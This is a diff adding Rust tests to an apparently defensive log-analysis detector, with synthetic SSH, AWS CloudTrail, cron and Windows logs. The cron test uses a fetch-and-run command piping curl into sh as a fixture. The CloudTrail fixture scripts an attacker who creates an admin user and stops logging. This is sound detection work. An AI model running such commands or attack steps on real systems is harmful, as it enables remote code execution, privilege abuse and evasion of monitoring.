@@ -127,6 +127,88 @@ fn ok_a_key_after_failures_is_weaker() {
     assert_eq!((findings[0].kind.as_str(), findings[0].confidence), ("key-after-failures", Confidence::Low));
 }
 
+/// Who guessed, and then comes with a key to where he never was, has put it in or stolen it.
+#[test]
+fn ok_a_key_after_guessing_from_a_new_source_is_grave() {
+    let key = |at: u32, source: &str| {
+        line(at, "sshd", &format!("Accepted publickey for root from {source} port 22 ssh2: RSA x"))
+    };
+    let guesses = |source: &str| (20..34).map(|at| failed(at, "root", source)).collect::<String>();
+    let told = |log: String| {
+        let findings = hunted(&log);
+        found(&findings, "key-after-failures").map(|found| (found.severity, found.confidence))
+    };
+    assert_eq!(told(guesses("192.0.2.9") + &key(60, "192.0.2.9")), Some((4, Confidence::Medium)));
+    // From where the user came before, it is a program whose key did not work for a while.
+    assert_eq!(told(key(0, "192.0.2.9") + &guesses("192.0.2.9") + &key(60, "192.0.2.9")), Some((2, Confidence::Low)));
+    assert_eq!(told(guesses("192.0.2.9") + &key(60, "192.0.2.10")), None);
+}
+
+/// A console of a cloud that was guessed at, and what was done there then; others at their work are quiet.
+#[test]
+fn ok_a_cloud() {
+    let event = |at: u32, who: &str, source: &str, name: &str, rest: &str| {
+        let service = if name == "ConsoleLogin" { "signin" } else { "iam" };
+        format!(
+            "{{\"eventVersion\":\"1.08\",\"userIdentity\":{{\"type\":\"IAMUser\",\"userName\":\"{who}\"}},\"eventTime\":\"2024-05-14T10:{:02}:{:02}Z\",\"eventSource\":\"{service}.amazonaws.com\",\"eventName\":\"{name}\",\"awsRegion\":\"us-east-1\",\"sourceIPAddress\":\"{source}\",{rest}}}\n",
+            at / 60,
+            at % 60
+        )
+    };
+    let console = |at: u32, who: &str, source: &str, outcome: &str, factor: &str| {
+        let rest = format!(
+            "\"responseElements\":{{\"ConsoleLogin\":\"{outcome}\"}},\"additionalEventData\":{{\"MFAUsed\":\"{factor}\"}}"
+        );
+        event(at, who, source, "ConsoleLogin", &rest)
+    };
+    let calm: String = console(0, "ann", "198.51.100.7", "Success", "Yes")
+        + &(1..60)
+            .map(|at| event(at, "ann", "198.51.100.7", "ListUsers", "\"requestParameters\":null"))
+            .collect::<String>();
+    assert_eq!(hunted_in("aws-cloudtrail", &calm, &HuntSettings::default(), 1000), []);
+    let guesses: String = (60..75).map(|at| console(at, "bob", "192.0.2.9", "Failure", "No")).collect();
+    let eve =
+        "\"requestParameters\":{\"userName\":\"eve\",\"policyArn\":\"arn:aws:iam::aws:policy/AdministratorAccess\"}";
+    let log = calm
+        + &guesses
+        + &console(80, "bob", "192.0.2.9", "Success", "No")
+        + &event(90, "bob", "192.0.2.9", "CreateUser", eve)
+        + &event(91, "bob", "192.0.2.9", "AttachUserPolicy", eve)
+        + &event(92, "bob", "192.0.2.9", "StopLogging", "\"requestParameters\":{\"name\":\"main\"}");
+    let findings = hunted_in("aws-cloudtrail", &log, &HuntSettings::default(), 1000);
+    let told: Vec<_> = findings
+        .iter()
+        .map(|found| {
+            (found.kind.as_str(), found.user.as_str(), found.technique.as_ref().map_or("", |one| one.id.as_ref()))
+        })
+        .collect();
+    assert_eq!(
+        told,
+        [
+            ("success-after-failures", "bob", "T1078.004"),
+            ("cloud-log-stopped", "bob", "T1562.008"),
+            ("rights-given", "eve", "T1098.003"),
+            ("guessing", "bob", "T1110.001"),
+            ("account-made", "eve", "T1136.003"),
+            ("no-second-factor", "bob", "T1078.004"),
+        ]
+    );
+    assert!(findings[2].because.contains("It was bob's doing."), "{}", findings[2].because);
+    assert!(findings[0].because.contains("stopped the cloud's log"), "{}", findings[0].because);
+}
+
+#[test]
+fn ok_jobs_of_cron() {
+    let job = |command: &str| line(0, "CRON", &format!("(www-data) CMD ({command})"));
+    let findings = hunted(&job("curl -s http://192.0.2.9/x | sh"));
+    assert_eq!((findings[0].kind.as_str(), findings[0].user.as_str()), ("suspicious-job", "www-data"));
+    assert_eq!(findings[0].technique.as_ref().map(|one| one.id.as_ref()), Some("T1053.003"));
+    assert_eq!(hunted(&job("/var/tmp/.x/kworker")).len(), 1);
+    for calm in ["run-parts /etc/cron.hourly", "curl -fsS https://example.com/ping", "cd / && php /srv/cron.php"] {
+        assert_eq!(hunted(&job(calm)), [], "{calm}");
+    }
+}
+
 #[test]
 fn ok_spraying_and_its_names() {
     let log: String = (0..12).map(|at| failed(at, &format!("u{at}"), "192.0.2.9")).collect();
@@ -436,8 +518,17 @@ fn ok_windows() {
     let who = r#""TargetUserName":"ann","LogonType":3,"IpAddress":"192.0.2.9","SubStatus":"0xc000006a""#;
     let log: String = (0..12).map(|at| event(4625, at, who)).collect::<String>() + &event(4624, 20, who);
     let findings = hunted_in("windows-event-json", &log, &HuntSettings::default(), 3);
-    let kinds: Vec<_> = findings.iter().map(|found| (found.kind.as_str(), found.source.as_str())).collect();
-    assert_eq!(kinds, [("success-after-failures", "192.0.2.9"), ("guessing", "192.0.2.9")]);
+    let kinds = [("success-after-failures", "192.0.2.9"), ("guessing", "192.0.2.9")];
+    assert_eq!(findings.iter().map(|found| (found.kind.as_str(), found.source.as_str())).collect::<Vec<_>>(), kinds);
+    // The data may stand in a list.
+    let listed = |id: u32, at: u32| {
+        let data = r##""Data":[{"@Name":"TargetUserName","#text":"ann"},{"@Name":"IpAddress","#text":"192.0.2.9"},{"@Name":"LogonType","#text":"3"}]"##;
+        event(id, at, data)
+    };
+    let log: String = (0..12).map(|at| listed(4625, at)).collect::<String>() + &listed(4624, 20);
+    let findings = hunted_in("windows-event-json", &log, &HuntSettings::default(), 3);
+    let listed: Vec<_> = findings.iter().map(|found| (found.kind.as_str(), found.source.as_str())).collect();
+    assert_eq!(listed, kinds);
     let cleared = r##"{"Event":{"System":{"Provider":{"#attributes":{"Name":"Microsoft-Windows-Eventlog"}},"EventID":1102,"TimeCreated":{"#attributes":{"SystemTime":"2024-05-01T12:31:00Z"}},"Channel":"Security","Computer":"ws1"},"UserData":{"SubjectUserName":"ann"}}}"##;
     let findings = hunted_in("windows-event-json", cleared, &HuntSettings::default(), 3);
     let found = &findings[0];
